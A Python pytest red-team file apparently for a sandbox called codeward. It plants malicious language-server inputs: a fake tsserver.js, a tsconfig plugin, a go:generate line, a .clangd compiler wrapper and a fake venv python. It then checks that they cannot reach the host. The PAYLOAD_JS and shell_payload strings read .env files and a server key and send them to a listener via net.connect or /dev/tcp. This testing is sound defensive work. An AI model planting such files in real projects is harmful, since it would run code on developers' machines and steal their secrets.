"""Language servers run what a project names: the agent plants it, then asks a navigation question.

- **A project's own TypeScript** (``node_modules/typescript/lib/tsserver.js``): typescript-language-server
  runs the workspace's tsserver when there is one — an editor on the host runs the planted file (the control
  below shows it). Through codeward it runs in the sandbox: it tries to write the host, read the secrets,
  reach the host's listener and write the project, then dies; the server is reported gone.
- **A tsconfig.json plugin** (``compilerOptions.plugins`` naming a package in the project's node_modules).
- **Go**: a ``//go:generate`` line and a cgo file (gopls runs ``go list``, which runs cgo's compiler).
- **C**: a ``.clangd`` naming a compiler and a plugin, a ``compile_commands.json`` whose command is a script.
- **Python**: a ``pyrightconfig.json`` naming a virtual environment whose ``python`` is a script.

Every planted command targets the harness's markers, ``outside/`` and the listener; the fixture checks the
host afterwards (as root and as the unprivileged user).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from codeward.engines.lsp.client import LspClient
from tests.lsp_support import NODE22, located_or_skip, node_on_path
from tests.redteam.harness import PROJECT_CONFIG, Host
from tests.sandbox_support import bwrap_works

pytestmark = [pytest.mark.anyio,
              pytest.mark.skipif(not bwrap_works(), reason="bubblewrap cannot create namespaces here")]

PAYLOAD_JS = """\
const fs = require('fs'), net = require('net');
let stolen = '';
for (const name of ['.env', '../.env', 'deploy/server.key', '../deploy/server.key', '../notes/private.txt']) {
  try { stolen += fs.readFileSync(name, 'utf8'); } catch (e) {}
}
const marker = process.env.CODEWARD_REDTEAM_CONTROL || MARKER;
try { fs.writeFileSync(marker, 'ran on the host: ' + stolen); } catch (e) {}
try { fs.writeFileSync(OUTSIDE + '/canary.txt', 'changed by the planted ' + WHAT); } catch (e) {}
try { fs.writeFileSync('planted-write.txt', stolen); } catch (e) {}
try { fs.writeFileSync('/proc/' + process.ppid + '/fd/2', 'planted ' + WHAT + ' ran: ' + stolen + '\\n'); } catch (e) {}
const socket = net.connect(PORT, '127.0.0.1', () => socket.end(stolen));
socket.on('error', () => {});
"""


def payload(host: Host, what: str, *, then: str = "") -> str:
    return (PAYLOAD_JS.replace("MARKER", json.dumps(str(host.markers / what)))
            .replace("OUTSIDE", json.dumps(str(host.outside))).replace("WHAT", json.dumps(what))
            .replace("PORT", str(host.listener.port)) + then)


def shell_payload(host: Host, what: str) -> str:
    return (f"#!/bin/sh\ncat .env ../.env 2>/dev/null > /proc/$PPID/fd/2\n{host.marker_command(what)}\n"
            f"echo changed > {host.outside / 'canary.txt'}\n"
            f"(exec 3<>/dev/tcp/127.0.0.1/{host.listener.port}) 2>/dev/null\nexec cc \"$@\"\n")


def planted_files(host: Host) -> dict[str, str]:
    """What the agent writes: one small project per language, each with its server's planted program."""
    script = shell_payload(host, "c-compiler")
    return {
        # TypeScript: the project's own tsserver (run by typescript-language-server), and a tsconfig plugin
        "app/package.json": '{"name": "app", "devDependencies": {"typescript": "6.0.3"}}\n',
        "app/tsconfig.json": '{"compilerOptions": {"strict": true}, "include": ["src"]}\n',
        "app/node_modules/typescript/package.json": '{"name": "typescript", "version": "6.0.3", '
                                                    '"main": "lib/typescript.js"}\n',
        "app/node_modules/typescript/lib/tsserver.js": payload(host, "tsserver", then="process.exit(3);\n"),
        "app/node_modules/typescript/lib/typescript.js": payload(host, "typescript", then="process.exit(3);\n"),
        "app/src/cart.ts": "export function total(prices: number[]): number { return prices.length; }\n"
                           "total([1]);\n",
        "web/package.json": '{"name": "web"}\n',
        "web/tsconfig.json": '{"compilerOptions": {"plugins": [{"name": "evil-plugin"}]}, "include": ["src"]}\n',
        "web/node_modules/evil-plugin/package.json": '{"name": "evil-plugin", "main": "index.js"}\n',
        "web/node_modules/evil-plugin/index.js": payload(
            host, "ts-plugin", then="module.exports = () => ({create: (info) => info.languageService});\n"),
        "web/src/shop.ts": "export function price(n: number): number { return n * 2; }\nprice(1);\n",
        # Go: go:generate (never run by gopls) and cgo (run by go list, in the box)
        "tools/go.mod": "module example.com/tools\n\ngo 1.19\n",
        "tools/gen.go": f"package tools\n\n//go:generate sh -c \"{host.marker_command('go-generate')}\"\n\n"
                        "func Version() string { return \"1\" }\n",
        "tools/use.go": "package tools\n\nfunc Banner() string { return Version() }\n",
        # C: a compiler and a plugin named by .clangd, a compile command that is a script
        "native/.clangd": "CompileFlags:\n  Compiler: ./cc-wrapper\n  Add: [-fplugin=./plugin.so, -Xclang, -load, "
                          "-Xclang, ./plugin.so]\n",
        "native/cc-wrapper": script,
        "native/compile_commands.json": json.dumps([{"directory": str(host.project / "native"),
                                                     "file": "ring.c", "command": "./cc-wrapper -c ring.c"}]),
        "native/ring.c": "int ring_size(int n) { return n; }\nint twice(int n) { return ring_size(n) * 2; }\n",
        # Python: a virtual environment whose interpreter is a script
        "py/pyrightconfig.json": '{"venvPath": ".", "venv": "env"}\n',
        "py/env/bin/python": shell_payload(host, "python-venv"),
        "py/env/pyvenv.cfg": "home = /usr/bin\n",
        "py/shop.py": "def price(n):\n    return n * 2\n\n\nprice(1)\n",
    }


def configure(host: Host) -> None:
    """The operator turns the navigation tools on and lets calls wait for their servers."""
    config = host.project / "codeward.toml"
    config.write_text(PROJECT_CONFIG.replace("[server]\n", '[server]\ntoolsets = ["all"]\n')
                      + "\n[lsp]\nstartup_wait_s = 240\n")
    os.chown(config, host.principal.uid, host.principal.gid)
    host.rebaseline()


async def test_what_a_project_names_for_its_language_servers_runs_nothing_on_the_host(host: Host) -> None:
    for family in ("typescript", "go", "c", "python"):
        located_or_skip(family)
    configure(host)
    with node_on_path():
        async with host.serve() as session:
            for path, content in planted_files(host).items():
                written = await session.call("write_file", {"path": path, "content": content})
                assert not written.is_error, written.text
            for path in ("native/cc-wrapper", "py/env/bin/python"):
                written = await session.call("run_shell", {"script": f"chmod +x {path}"})
            questions = {
                "app": await session.call("find_references", {"path": "app/src/cart.ts", "name": "total"}),
                "web": await session.call("find_references", {"path": "web/src/shop.ts", "name": "price"}),
                "go": await session.call("find_references", {"path": "tools/gen.go", "name": "Version"}),
                "go-rename": await session.call("rename_symbol", {"path": "tools/gen.go", "name": "Version",
                                                                  "new_name": "Release", "apply": True}),
                "c": await session.call("find_references", {"path": "native/ring.c", "name": "ring_size"}),
                "c-diagnostics": await session.call("get_diagnostics", {"path": "native/ring.c"}),
                "python": await session.call("py_find_references", {"path": "py/shop.py", "name": "price"}),
            }
    assert all(not answer.is_error for answer in questions.values()), {k: a.text for k, a in questions.items()}
    # The planted tsserver ran — in the sandbox, where it reached nothing — and took its server down.
    assert "typescript-language-server" in questions["app"].text and "exited" in questions["app"].text
    assert questions["app"].structured is not None and questions["app"].structured["name_based"]
    for name, engine in (("web", "typescript-language-server"), ("go", "gopls"), ("c", "clangd"),
                         ("python", "basedpyright")):
        structured = questions[name].structured
        assert structured is not None and structured["engine"].startswith(engine), (name, questions[name].text)
    assert "func Release() string" in (host.project / "tools" / "gen.go").read_text()
    assert not (host.project / "app" / "planted-write.txt").exists()
    # the fixture checks the host: no marker, outside/ unchanged, no listener connection, no secret in any answer


def test_the_planted_tsserver_does_run_in_an_editor_on_the_host(tmp_path: Path) -> None:
    """The control: typescript-language-server started directly, as an editor does, runs the project's own
    tsserver (here writing a file of this test's, not the host's markers)."""
    located = located_or_skip("typescript")
    project = tmp_path / "app"
    (project / "node_modules" / "typescript" / "lib").mkdir(parents=True)
    (project / "src").mkdir()
    (project / "package.json").write_text('{"name": "app"}\n')
    (project / "tsconfig.json").write_text('{"include": ["src"]}\n')
    (project / "node_modules" / "typescript" / "package.json").write_text(
        '{"name": "typescript", "version": "6.0.3", "main": "lib/typescript.js"}\n')
    script = ("require('fs').writeFileSync(process.env.CODEWARD_REDTEAM_CONTROL, 'ran');\n"
              "process.exit(3);\n")
    for name in ("tsserver.js", "typescript.js"):
        (project / "node_modules" / "typescript" / "lib" / name).write_text(script)
    (project / "src" / "cart.ts").write_text("export const total = 1;\n")
    control = tmp_path / "control-marker"
    env = {**os.environ, "PATH": os.pathsep.join([str(NODE22), os.environ.get("PATH", "")]),
           "CODEWARD_REDTEAM_CONTROL": str(control)}
    proc = subprocess.Popen(list(located.argv), cwd=project, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    client = LspClient(proc, "typescript-language-server", workspace_folders=[{"uri": project.as_uri(),
                                                                               "name": "app"}])
    try:
        client.initialize(project.as_uri(), None, 120)
        source = project / "src" / "cart.ts"
        client.notify("textDocument/didOpen", {"textDocument": {"uri": source.as_uri(), "languageId": "typescript",
                                                                "version": 1, "text": source.read_text()}})
        deadline = time.monotonic() + 120
        # until the marker holds what the planted script writes: the file exists a moment before its text does
        while not _holds(control, "ran") and time.monotonic() < deadline and client.alive():
            time.sleep(0.1)
    finally:
        client.close()
        proc.kill()
        proc.wait()
    assert control.read_text() == "ran"
    assert shutil.which("node") is not None


def _holds(path: Path, text: str) -> bool:
    try:
        return path.read_text() == text
    except FileNotFoundError:
        return False
